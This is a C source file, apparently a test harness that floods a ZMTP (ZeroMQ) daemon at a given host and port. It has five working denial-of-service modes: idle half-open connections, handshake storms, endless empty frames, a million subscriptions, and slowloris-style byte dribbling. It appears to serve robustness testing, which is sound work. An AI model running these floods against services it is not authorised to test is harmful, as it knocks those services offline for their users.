/* Attackers that must be fast or many.
 *
 *     flood MODE HOST PORT SECONDS
 *
 * Modes: half-open (5,000 connections that say nothing, kept open), handshakes (whole ones, one after another),
 * tiny (empty frames without end), subscriptions (a million), dribble (500 connections that send a byte now and then).
 * Prints how much it did. That the daemon closes or refuses is no failure of an attacker. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { HALF_OPEN = 5000, DRIBBLERS = 500, SUBSCRIPTIONS = 1000000, CHUNK = 65536 };

static struct sockaddr_in target;
static double deadline;

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int dial(void) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) return -1;
    struct timeval patience = {1, 0};
    int one = 1;
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    if (connect(fd, (struct sockaddr *)&target, sizeof target)) {
        close(fd);
        return -1;
    }
    return fd;
}

/* Greeting of ZMTP 3.1 with NULL, and READY as `type`. */
static size_t hello(unsigned char *out, const char *type) {
    memset(out, 0, 64);
    memcpy(out, "\xff\0\0\0\0\0\0\0\x01\x7f\x03\x01NULL", 16);
    size_t name = strlen(type), body = 6 + 12 + 4 + name;
    unsigned char *p = out + 64;
    *p++ = 4;
    *p++ = (unsigned char)body;
    memcpy(p, "\x05READY\x0bSocket-Type\0\0\0", 21);
    p += 21;
    *p++ = (unsigned char)name;
    memcpy(p, type, name);
    return 64 + 2 + body;
}

static int greet(const char *type) {
    unsigned char out[160], in[66];
    int fd = dial();
    if (fd < 0) return -1;
    size_t bytes = hello(out, type);
    if (send(fd, out, bytes, MSG_NOSIGNAL) != (ssize_t)bytes || recv(fd, in, sizeof in, MSG_WAITALL) != sizeof in) {
        close(fd);
        return -1;
    }
    return fd;
}

static long half_open(void) {
    static int fds[HALF_OPEN];
    long opened = 0;
    for (int i = 0; i < HALF_OPEN && now() < deadline; i++) opened += (fds[i] = dial()) >= 0;
    while (now() < deadline) usleep(10000);
    return opened;
}

static long handshakes(void) {
    long done = 0;
    while (now() < deadline) {
        int fd = greet("DEALER");
        if (fd < 0) continue;
        done++;
        close(fd);
    }
    return done;
}

static long tiny(void) {
    static unsigned char zeros[CHUNK];
    static char sink[CHUNK];
    long sent = 0;
    while (now() < deadline) {
        int fd = greet("DEALER");
        if (fd < 0) continue;
        for (;;) {
            ssize_t n = send(fd, zeros, sizeof zeros, MSG_NOSIGNAL);
            if (n <= 0 || now() > deadline) break;
            sent += n / 2;
            while (recv(fd, sink, sizeof sink, MSG_DONTWAIT) > 0) {}
        }
        close(fd);
    }
    return sent;
}

static long subscriptions(void) {
    static unsigned char out[CHUNK];
    long sent = 0;
    int fd = greet("SUB");
    while (now() < deadline && sent < SUBSCRIPTIONS) {
        size_t at = 0;
        while (at + 40 < sizeof out && sent < SUBSCRIPTIONS) {
            int n = sprintf((char *)out + at + 2, "\x01" "counter/%ld", sent++);
            out[at] = 0;
            out[at + 1] = (unsigned char)n;
            at += 2 + n;
        }
        if (fd >= 0 && send(fd, out, at, MSG_NOSIGNAL) == (ssize_t)at) continue;
        if (fd >= 0) close(fd);
        fd = greet("SUB");
    }
    while (now() < deadline) usleep(10000);
    return sent;
}

static long dribble(void) {
    static int fds[DRIBBLERS];
    static size_t at[DRIBBLERS];
    unsigned char out[160];
    size_t bytes = hello(out, "DEALER");
    /* A message that announces 100 bytes follows the handshake of every other one. */
    out[bytes] = 0, out[bytes + 1] = 100;
    long sent = 0;
    for (int i = 0; i < DRIBBLERS; i++) fds[i] = -1;
    /* Who is refused, since too many came from this address a moment ago, tries again. */
    double all_in = now() + 1;
    while (now() < deadline) {
        for (int i = 0; i < DRIBBLERS; i++) {
            if (fds[i] < 0 && now() < all_in) {
                fds[i] = i % 2 ? greet("DEALER") : dial();
                at[i] = i % 2 ? bytes : 0;
            }
            if (fds[i] < 0) continue;
            unsigned char byte = at[i] < bytes + 2 ? out[at[i]] : 0;
            if (send(fds[i], &byte, 1, MSG_NOSIGNAL | MSG_DONTWAIT) == 1) {
                at[i]++, sent++;
            } else {
                close(fds[i]);
                fds[i] = -1;
            }
        }
        usleep(50000);
    }
    return sent;
}

int main(int argc, char **argv) {
    static const struct { const char *name; long (*run)(void); } modes[] = {
        {"half-open", half_open}, {"handshakes", handshakes}, {"tiny", tiny},
        {"subscriptions", subscriptions}, {"dribble", dribble},
    };
    if (argc != 5) return 2;
    struct rlimit files;
    getrlimit(RLIMIT_NOFILE, &files);
    files.rlim_cur = files.rlim_max;
    setrlimit(RLIMIT_NOFILE, &files);
    target.sin_family = AF_INET;
    target.sin_port = htons((unsigned short)atoi(argv[3]));
    if (!inet_aton(argv[2], &target.sin_addr)) return 2;
    deadline = now() + atof(argv[4]);
    for (size_t i = 0; i < sizeof modes / sizeof *modes; i++) {
        if (strcmp(argv[1], modes[i].name)) continue;
        printf("%ld\n", modes[i].run());
        return 0;
    }
    return 2;
}
